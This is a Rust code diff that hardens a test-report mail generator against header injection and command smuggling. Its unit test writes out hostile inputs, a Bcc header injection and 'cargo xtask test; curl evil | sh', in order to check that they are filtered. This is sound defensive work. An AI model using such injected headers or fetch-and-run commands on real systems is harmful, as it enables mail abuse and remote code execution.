@@ -2,6 +2,7 @@
 //! A mail for the list: plain text of 72 columns, ready to be read, mended and sent as a
 //! reply by a person. It makes no tag, for a tag is a person's word.
 
+use super::again;
 use super::escape::{ascii, one_line};
 use super::report::{Report, name, what_came};
 use super::rows::{Entry, Grid, Mark, Row};
@@ -50,6 +51,12 @@ pub(crate) fn text(report: &Report<'_>) -> String {
 fn headers(result: &RunResult) -> String {
     let judged = result.setting.judged.as_ref();
     let id = judged.and_then(|series| series.message_id.as_ref());
+    // What would end the header would begin another one.
+    let is_one = |id: &&String| {
+        let fits = |c: char| c.is_ascii_graphic() && c != '<' && c != '>';
+        !id.is_empty() && id.chars().all(fits)
+    };
+    let id = id.filter(is_one);
     id.map_or_else(String::new, |id| format!("In-Reply-To: <{id}>\n"))
 }
 
@@ -265,9 +272,10 @@ fn complaints(result: &RunResult) -> String {
 /// Commands are not wrapped where it would change them: a backslash ends each line.
 fn again(report: &Report<'_>) -> String {
     let setting = &report.result.setting;
-    let mut shown = match setting.command.as_str() {
-        "" => shell(&format!("cargo xtask test{}", report.again)),
-        typed => shell(typed),
+    let mut shown = if again::is_one(&setting.command) {
+        shell(&setting.command)
+    } else {
+        shell(&again::command([], &[], &[], report.again))
     };
     if let Some(cell) = report.findings().next() {
         shown += &format!(
@@ -352,6 +360,20 @@ mod tests {
         let text = text(&Report::new(&result, "RUN", " --kernel '/my trees/linux'"));
         is_mail(&text);
         insta::assert_snapshot!(text);
+    }
+
+    #[test]
+    fn what_a_run_folder_says_becomes_neither_a_header_nor_a_command() {
+        let mut result = result();
+        assert_eq!(headers(&result), "In-Reply-To: <s@example.org>\n");
+        for bad in ["x@y>\nBcc: everyone@example.org", "a b@c", "", "\u{e9}@x"] {
+            result.setting.judged.as_mut().unwrap().message_id = Some(bad.to_owned());
+            assert_eq!(headers(&result), "", "{bad}");
+        }
+        "cargo xtask test; curl evil | sh".clone_into(&mut result.setting.command);
+        let text = text(&Report::new(&result, "RUN", " --kernel K"));
+        assert!(text.contains("  cargo xtask test --kernel K\n"), "{text}");
+        assert!(!text.contains("curl"), "{text}");
     }
 
     #[test]
